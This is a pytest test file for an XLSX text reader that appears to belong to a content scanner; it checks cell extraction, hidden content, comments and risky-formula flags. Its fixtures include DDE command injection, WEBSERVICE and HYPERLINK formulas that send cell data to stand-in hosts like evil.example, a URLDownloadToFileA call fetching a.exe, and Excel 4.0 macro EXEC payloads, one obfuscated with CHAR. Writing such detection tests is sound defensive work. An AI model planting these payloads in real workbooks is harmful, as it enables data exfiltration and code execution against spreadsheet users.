"""Workbooks: cells with row and column, what is hidden, and formulas that do more than calculate."""

from __future__ import annotations

from typing import Any

import pytest

from tests.cases import each
from tests.formats.office.building import FILES, XLSX, relations, xlsx
from tests.formats.reading import flat, read, reasons

STRINGS = "<si><t>Ada</t></si><si><r><t>two </t></r><r><t>runs</t></r><rPh><t>ka</t></rPh></si><si><t>=cmd|'/C calc'!A0</t></si>"
STYLES = (
    '<numFmts><numFmt numFmtId="170" formatCode=";;;"/></numFmts>'
    '<fonts><font><sz val="11"/></font><font><color rgb="FFFFFFFF"/></font><font><color theme="0"/></font><font><sz val="1"/></font></fonts>'
    '<fills><fill><patternFill patternType="none"/></fill><fill><patternFill patternType="solid"><fgColor rgb="FF003366"/></patternFill></fill></fills>'
    '<cellXfs><xf fontId="0" fillId="0"/><xf fontId="1" fillId="0"/><xf fontId="1" fillId="1"/><xf fontId="2" fillId="0"/>'
    '<xf fontId="3" fillId="0"/><xf numFmtId="170" fontId="0" fillId="0"/></cellXfs>'
)


def cells(sheet: str, *fields: str, **parts: Any) -> list[Any]:
    return [row for row in flat(read(xlsx({"One": sheet}, STRINGS, STYLES, **parts), XLSX)[0], "part", *fields) if row[1] == "One"]


def row(inner: str, attributes: str = 'r="1"') -> str:
    return f"<sheetData><row {attributes}>{inner}</row></sheetData>"


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ('<c r="A1" t="s"><v>0</v></c>', ("Ada", 0, "A")),
        ('<c r="AB7" t="s"><v>1</v></c>', ("two runs", 0, "AB")),
        ('<c t="s"><v>0</v></c>', ("Ada", 0, "A")),
        ('<c r="A1" t="inlineStr"><is><t>in</t><t>line</t></is></c>', ("inline", 0, "A")),
        ('<c r="A1"><v>4111111111111111</v></c>', ("4111111111111111", 0, "A")),
        ('<c r="A1"><v>4.1111111111111111E+15</v></c>', ("4111111111111111", 0, "A")),
        ('<c r="A1"><v>1.5E-3</v></c>', ("1.5E-3", 0, "A")),
        ('<c r="A1" t="str"><f>A2&amp;A3</f><v>result</v></c>', ("result", 0, "A")),
    ],
)
def test_cells(cell: str, expected: tuple[str, int, str]) -> None:
    assert cells(row(cell), "row", "column") == [(expected[0], "One", *expected[1:])]


@pytest.mark.parametrize(
    "cell", ['<c t="b"><v>1</v></c>', '<c t="e"><v>#N/A</v></c>', '<c t="s"><v>99</v></c>', '<c t="s"><v>x</v></c>', "<c/>"]
)
def test_cells_without_a_text(cell: str) -> None:
    assert cells(row(cell)) == []


@each(
    ("sheet", "view"),
    [
        (row('<c r="B1" t="s"><v>0</v></c>'), "visible"),
        (row('<c r="B1" t="s"><v>0</v></c>', 'r="1" hidden="1"'), "hidden"),
        (row('<c r="B1" t="s"><v>0</v></c>', 'r="1" ht="0"'), "hidden"),
        ('<cols><col min="2" max="3" hidden="1"/></cols>' + row('<c r="B1" t="s"><v>0</v></c>'), "hidden"),
        ('<cols><col min="2" max="3" width="0"/></cols>' + row('<c r="C1" t="s"><v>0</v></c>'), "hidden"),
        ('<cols><col min="2" max="3" hidden="1"/></cols>' + row('<c r="D1" t="s"><v>0</v></c>'), "visible"),
        *((row(f'<c r="B1" s="{style}" t="s"><v>0</v></c>'), view) for style, view in enumerate(
            ("visible", "hidden", "visible", "hidden", "hidden", "hidden"))),
    ],
)  # fmt: skip
def test_what_is_hidden(sheet: str, view: str) -> None:
    assert cells(sheet, "view") == [("Ada", "One", view)]


def test_hidden_sheets_and_those_that_nothing_names() -> None:
    cell = row('<c t="s"><v>0</v></c>')
    data = xlsx({"Open": cell, "Shut!": cell}, STRINGS, **{"xl/worksheets/lost.xml": f"<worksheet>{cell}</worksheet>"})
    assert [row for row in flat(read(data, XLSX)[0], "part", "view") if row[0] == "Ada"] == [
        ("Ada", "Open", "visible"),
        ("Ada", "Shut", "hidden"),
        ("Ada", "lost", "hidden"),
    ]


@pytest.mark.parametrize(
    ("formula", "notice"),
    [
        ("cmd|'/C calc'!A0", "dde"),
        ('WEBSERVICE("http://evil.example/?"&amp;A1)', "formula-injection"),
        ('CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://x","a.exe",0,0)', "formula-injection"),
        ('HYPERLINK("http://evil.example/?d="&amp;A1,"click")', "formula-link"),
        ('HYPERLINK("http://example.org","site")', None),
        ('IF(A1="due","pay","wait")', None),
    ],
)
def test_formulas(formula: str, notice: str | None) -> None:
    found = cells(row(f'<c r="C1" t="str"><f>{formula}</f><v>v</v></c>'), "view", "column", "notice")
    assert set(found) == {
        ("v", "One", "visible", "C", None),
        (formula.replace("&amp;", "&"), "One", "metadata", "C", notice),
    }


def test_a_formula_that_only_calculates_says_nothing_and_one_kept_as_text_is_noticed() -> None:
    assert cells(row('<c r="A1"><f>SUM(B1:B9)</f><v>7</v></c>')) == [("7", "One")]
    assert cells(row('<c r="A1" t="s"><v>2</v></c>'), "notice") == [("=cmd|'/C calc'!A0", "One", "dde")]
    assert cells(row('<c r="A1" t="inlineStr"><is><t>+WEBSERVICE("http://x")</t></is></c>'), "notice")[0][2] == "formula-injection"


def test_words_around_the_grid() -> None:
    sheet = (
        '<dataValidations><dataValidation promptTitle="Hint" prompt="Type a name"><formula1>"yes,no"</formula1></dataValidation></dataValidations>'
        '<hyperlinks><hyperlink ref="A1" tooltip="Click me"/></hyperlinks><headerFooter><oddHeader>&amp;CConfidential</oddHeader></headerFooter>'
    )
    assert cells(sheet, "view", "column") == [
        ("Hint", "One", "metadata", "dataValidation"),
        ("Type a name", "One", "metadata", "dataValidation"),
        ('"yes,no"', "One", "metadata", "formula1"),
        ("Click me", "One", "metadata", "hyperlink"),
        ("&CConfidential", "One", "visible", "oddHeader"),
    ]


def test_comments_stand_at_their_cells() -> None:
    rels = relations(("comments", "../comments1.xml", False), ("threadedComment", "../threads/t1.xml", False))
    found = cells(
        "<sheetData/>",
        "view",
        "row",
        "column",
        **{
            "xl/worksheets/_rels/sheet1.xml.rels": rels,
            "xl/comments1.xml": '<comments><authors><author>Bob</author></authors><commentList><comment ref="B3"><text><r><t>No </t></r><r><t>way</t></r></text></comment></commentList></comments>',
            "xl/threads/t1.xml": '<ThreadedComments><threadedComment ref="C2"><text>Yes</text></threadedComment></ThreadedComments>',
        },
    )
    assert found == [
        ("Bob", "One", "comment", None, "author"),
        ("No way", "One", "comment", 2, "B"),
        ("Yes", "One", "comment", 1, "C"),
    ]


def test_names_links_and_macro_sheets() -> None:
    names = (
        "<definedNames><definedName name='_xlnm.Auto_Open'>M!$A$1</definedName><definedName name='Rate'>0.2</definedName></definedNames>"
    )
    data = xlsx(
        {"M": '<xm:macrosheet><sheetData><row><c><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>'},
        names=names,
        **{
            "xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>",
            "xl/externalLinks/externalLink2.xml": "<externalLink><ddeLink ddeService='Excel' ddeTopic='[Book1.xlsx]One'/></externalLink>",
            "xl/externalLinks/externalLink3.xml": "<externalLink><externalBook><sheetNames><sheetName val='cmd'/></sheetNames></externalBook></externalLink>",
            "xl/connections.xml": "<connections><connection name='q'><dbPr connection='Provider=x;Data Source=y' command='select 1'/></connection></connections>",
        },
    )
    found = flat(read(data, XLSX)[0], "notice")
    assert [row for row in found if row[1]] == [
        ("_xlnm.Auto_Open=M!$A$1", "macro-suspicious"),
        ("Excel 4.0 macro sheet", "macro"),
        ('EXEC("calc.exe")', "macro-suspicious"),
        ("cmd|/c calc", "dde"),
        ("Excel|[Book1.xlsx]One", "external-relation"),
        ("Provider=x;Data Source=y", "external-relation"),
        ("select 1", "external-relation"),
    ]
    assert ("Rate=0.2", None) in found


def test_all_formulas_of_a_macro_sheet_are_read() -> None:
    sheet = "<xm:macrosheet><sheetData><row r='1'>" + "".join(
        f"<c r='A{number}'><f>{formula}</f></c>"
        for number, formula in enumerate(("HALT()", "EXEC(CHAR(99)&amp;CHAR(109)&amp;&quot;d.exe&quot;)", "A1+1"), 1)
    )
    workbook = """<workbook xmlns:r="x"><sheets><sheet name="M" sheetId="1" r:id="r1" state="veryHidden"/></sheets></workbook>"""
    data = xlsx({"M": sheet + "</row></sheetData></xm:macrosheet>"}, **{"xl/workbook.xml": workbook})
    found = flat(read(data, XLSX)[0], "view", "column", "notice")
    assert {one for one in found if one[2] in ("A", None)} == {
        ("Excel 4.0 macro sheet, very hidden", "metadata", None, "macro"),
        ("HALT()", "metadata", "A", None),
        ('EXEC(CHAR(99)&CHAR(109)&"d.exe")', "metadata", "A", "formula-injection"),
        ("cmd.exe", "decoded", "A", None),
        ("A1+1", "metadata", "A", None),
    }


def test_a_long_text_is_not_repeated_for_ever() -> None:
    long = "x" * 2000
    data = xlsx({"One": "<sheetData>" + '<row><c t="s"><v>0</v></c></row>' * 5000 + "</sheetData>"}, f"<si><t>{long}</t></si>")
    assert flat(read(data, XLSX)[0]).count(long) == 10


def test_shared_strings_beyond_the_bound_are_read_without_their_cells(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("veritensor_ray.formats.office.excel.sheet._SHARED_CHARS", 4)
    found = flat(read(xlsx({"One": row('<c t="s"><v>0</v></c><c t="s"><v>1</v></c>')}, STRINGS), XLSX)[0], "part", "row")
    assert ("two runs", "shared strings", 1) in found
    assert ("ka", "shared strings", 1) in found
    assert ("Ada", "One", 0) in found


def test_a_sheet_that_is_not_there() -> None:
    data = xlsx({"One": "<sheetData/>"}, names="<sheets><sheet name='Two' r:id='r9'/></sheets>")
    assert reasons(read(data, XLSX)[1]) == ["the workbook names a sheet that does not exist"]


def test_a_workbook_of_libreoffice() -> None:
    blocks, gaps = read((FILES / "sheets.xlsx").read_bytes(), XLSX)
    found = flat(blocks, "part", "row", "column", "view")
    assert gaps == []
    assert {row for row in found if row[1] in ("Berths", "Secret") and row[2] is not None} == {
        ("Captain", "Berths", 0, "A", "visible"),
        ("Hidden column", "Berths", 0, "B", "hidden"),
        ("Card", "Berths", 0, "C", "visible"),
        ("Ada Example", "Berths", 1, "A", "visible"),
        ("He never pays.", "Berths", 1, "A", "comment"),
        ("4111111111111111", "Berths", 1, "C", "visible"),
        ("White in a cell", "Berths", 1, "D", "hidden"),
        ("Hidden row", "Berths", 2, "A", "hidden"),
        ('webservice("http://collect.example/?"&A1)', "Berths", 6, "C", "metadata"),
        ("On a hidden sheet", "Secret", 0, "A", "hidden"),
    }
